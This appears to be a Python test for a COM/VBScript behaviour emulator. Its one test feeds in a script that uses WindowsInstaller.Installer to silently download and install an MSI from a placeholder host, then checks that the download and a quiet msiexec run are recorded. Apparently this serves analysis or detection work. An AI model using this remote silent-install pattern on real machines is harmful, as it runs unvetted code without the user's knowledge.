"""Windows Installer."""

from __future__ import annotations

from evaluate.com.program import run


def test_a_package_from_a_server():
    outcome = run(
        """
        Set i = CreateObject("WindowsInstaller.Installer"): i.UILevel = 2
        i.InstallProduct "http://files.example.test/a.msi"
        """
    )
    assert outcome.effects() == [
        ("download", "http://files.example.test/a.msi"),
        ("run", "msiexec /i http://files.example.test/a.msi /quiet"),
    ]
